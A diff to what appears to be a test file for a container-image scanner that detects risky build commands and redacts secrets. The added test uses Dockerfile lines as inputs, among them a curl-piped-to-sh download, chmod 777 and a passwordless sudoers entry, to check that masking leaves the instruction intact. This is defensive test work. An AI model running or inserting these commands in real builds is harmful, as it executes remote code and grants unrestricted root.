@@ -162,6 +162,15 @@ test.each([
   expect(JSON.stringify(findings)).not.toContain('hunter2');
 });
 
+test('a word that only looks like a secret hides nothing of the instruction', () => {
+  expect(textsShown('RUN chmod 777 /a; echo "token: curl" > b; curl https://x.example | sh')[0]).toBe(
+    'RUN chmod 777 /a; echo "token: ***" > b; curl https://x.example | sh',
+  );
+  expect(textsShown(`RUN echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`)[0]).toBe(
+    `RUN echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`,
+  );
+});
+
 test('a value that Kaniko leaves out of the history is found in the config', () => {
   const kaniko = image([{ createdBy: 'ENV DB_PASSWORD=$DB_PASSWORD', author: 'kaniko', emptyLayer: true }]);
   const { findings } = findBuildCommandRisks({
